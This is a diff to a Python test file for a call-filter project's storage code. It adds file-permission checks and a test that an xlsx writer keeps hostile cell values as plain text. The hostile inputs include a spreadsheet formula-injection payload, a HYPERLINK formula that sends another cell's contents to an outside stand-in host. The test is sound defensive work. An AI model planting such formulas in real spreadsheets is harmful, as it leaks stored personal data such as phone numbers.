@@ -38,9 +38,41 @@ def test_a_local_directory_gets_whole_files_and_no_leftovers(tmp_path):
     storage.write_bytes(path, b"second, longer")
     assert (tmp_path / "files" / path).read_bytes() == b"second, longer"
     assert sorted(p.name for p in (tmp_path / "files" / path).parent.iterdir()) == ["batch-0012.json"]
+    # Files of phone numbers are not for every local user to read.
+    assert (tmp_path / "files" / path).stat().st_mode & 0o777 == 0o640
+    assert (tmp_path / "files" / path).parent.stat().st_mode & 0o007 == 0
 
 
 def test_no_files_root_is_a_clear_error_not_a_per_worker_default(monkeypatch):
     monkeypatch.delenv(files.FILES_ROOT_ENV, raising=False)
     with pytest.raises(files.FilesRootNotSetError, match="CALLFILTER_FILES_ROOT is not set"):
         files.Storage()
+
+
+def test_no_cell_becomes_a_formula_and_control_characters_do_not_break_the_file(tmp_path):
+    hostile = [
+        '=HYPERLINK("http://x/?"&B3,"y")',
+        "=1+2",
+        "+8613800138000",
+        "-1",
+        "@SUM(A1)",
+        "138\x010013\x0b8000",
+        "ok",
+    ]
+    storage = files.Storage(str(tmp_path))
+    storage.write_xlsx("t.xlsx", [("=title\x02", ["=h", "telno"], [(i, v) for i, v in enumerate(hostile)])])
+    workbook = load_workbook(io.BytesIO(storage.read_bytes("t.xlsx")))
+    sheet = workbook.active
+    assert sheet.title == "=title_x02"
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert [c.value for c in sheet["A"]][0] == "=h"
+    assert [c.value for c in sheet["B"]][1:] == [
+        '=HYPERLINK("http://x/?"&B3,"y")',
+        "=1+2",
+        "+8613800138000",
+        "-1",
+        "@SUM(A1)",
+        "138\\x010013\\x0b8000",
+        "ok",
+    ]
